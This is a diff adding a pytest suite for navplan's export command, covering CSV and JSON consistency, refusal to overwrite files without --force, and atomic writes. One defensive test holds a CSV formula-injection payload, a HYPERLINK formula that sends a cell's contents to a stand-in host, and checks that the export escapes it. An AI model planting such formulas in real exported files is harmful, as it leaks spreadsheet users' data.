@@ -1,0 +1,108 @@
+"""navplan export csv|json, and what every export shares: one atomic write that
+replaces an existing file only with --force."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import shutil
+from pathlib import Path
+
+import pytest
+
+from conftest import EXAMPLES, run_navplan
+from navplan.render.machine import ActivityRecord, ScheduleDocument
+
+AS_OF = "10.12.2018"
+INDRE_OSTFOLD = EXAMPLES / "indre-ostfold" / "navplan.yaml"
+EXPORTS = {"xlsx": "plan.xlsx", "ics": "plan.ics", "csv": "plan.csv", "json": "plan.json"}
+
+
+@pytest.fixture
+def plan(tmp_path: Path) -> Path:
+    target = tmp_path / "kontor" / "navplan.yaml"
+    target.parent.mkdir()
+    shutil.copy(INDRE_OSTFOLD, target)
+    return target
+
+
+def printed(*args: str) -> str:
+    result = run_navplan(*args)
+    assert result.exit_code == 0, result.stderr
+    return result.stdout
+
+
+def written(kind: str, plan: Path, output: Path, *options: str) -> str:
+    result = run_navplan("export", kind, plan, "-o", output, "--as-of", AS_OF, *options)
+    assert result.exit_code == 0, result.stderr
+    assert result.stdout == "" and str(output) in result.stderr
+    return output.read_text(encoding="utf-8")
+
+
+@pytest.mark.parametrize("lang", ["nb", "en"])
+def test_json_is_the_document_critical_path_prints(plan, tmp_path, lang):
+    text = written("json", plan, tmp_path / "plan.json", "--lang", lang, "--weeks", "8")
+    exported = json.loads(text)
+    assert exported == json.loads(printed("critical-path", plan, "--as-of", AS_OF, "-f", "json", "--lang", lang,
+                                          "--weeks", "8"))
+    ScheduleDocument.model_validate(exported)  # the documented schema
+    assert exported["office"] == "NAV Indre Østfold" and exported["as_of"] == "2018-12-10"
+    assert exported["must_start"] != json.loads(
+        printed("critical-path", plan, "--as-of", AS_OF, "-f", "json", "--weeks", "0"))["must_start"]
+
+
+def test_csv_is_the_rows_critical_path_prints(plan, tmp_path):
+    text = written("csv", plan, tmp_path / "plan.csv")
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert rows == list(csv.DictReader(io.StringIO(printed("critical-path", plan, "--as-of", AS_OF, "-f", "csv"))))
+    assert list(rows[0]) == list(ActivityRecord.model_fields)
+    doc = json.loads(printed("critical-path", plan, "--as-of", AS_OF, "-f", "json"))
+    assert [row["id"] for row in rows] == [a["id"] for a in doc["activities"]]
+    by_id = {row["id"]: row for row in rows}
+    for activity in doc["activities"]:
+        assert by_id[activity["id"]]["latest_finish"] == activity["latest_finish"]
+        assert by_id[activity["id"]]["slack"] == ("" if activity["slack"] is None else str(activity["slack"]))
+
+
+def test_a_title_that_is_a_formula_stays_text_in_the_csv(plan, tmp_path):
+    formula = '=HYPERLINK("http://example.invalid/?x="&A1, "klikk"), og; mer\nlinje'
+    with plan.open("a", encoding="utf-8") as stream:
+        stream.write(f"""\
+  - id: "L1"
+    title: {json.dumps(formula)}
+    parent: "4"
+    duration: 5d
+    after: ["4.1"]
+    owner: "+47 123"
+""")
+    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(written("csv", plan, tmp_path / "plan.csv")))}
+    assert rows["L1"]["title"] == "'" + formula
+    assert rows["L1"]["owner"] == "'+47 123"
+    assert all(not str(cell).startswith(("=", "+", "-", "@")) for row in rows.values() for cell in row.values())
+
+
+@pytest.mark.parametrize("kind", EXPORTS)
+def test_every_export_refuses_an_existing_file_without_force(plan, tmp_path, kind):
+    output = tmp_path / EXPORTS[kind]
+    output.write_bytes(b"mine\n")
+    refused = run_navplan("export", kind, plan, "-o", output, "--as-of", AS_OF)
+    assert refused.exit_code == 2
+    assert "already exists" in refused.stderr and "--force" in refused.stderr and str(output) in refused.stderr
+    assert output.read_bytes() == b"mine\n"
+    forced = run_navplan("export", kind, plan, "-o", output, "--as-of", AS_OF, "--force")
+    assert forced.exit_code == 0, forced.stderr
+    assert output.read_bytes() != b"mine\n"
+    # Written through a temporary file beside it, renamed over it: nothing else is left behind.
+    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["kontor", output.name])
+
+
+@pytest.mark.parametrize("kind", EXPORTS)
+def test_a_plan_that_does_not_load_writes_nothing(tmp_path, kind):
+    bad = tmp_path / "navplan.yaml"
+    bad.write_text("navplan: 1\noffice: NAV X\nopening: 31.02.2020\n", encoding="utf-8")
+    output = tmp_path / EXPORTS[kind]
+    result = run_navplan("export", kind, bad, "-o", output, "--as-of", AS_OF)
+    assert result.exit_code == 2 and "opening" in result.stderr
+    assert not output.exists()
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["navplan.yaml"]
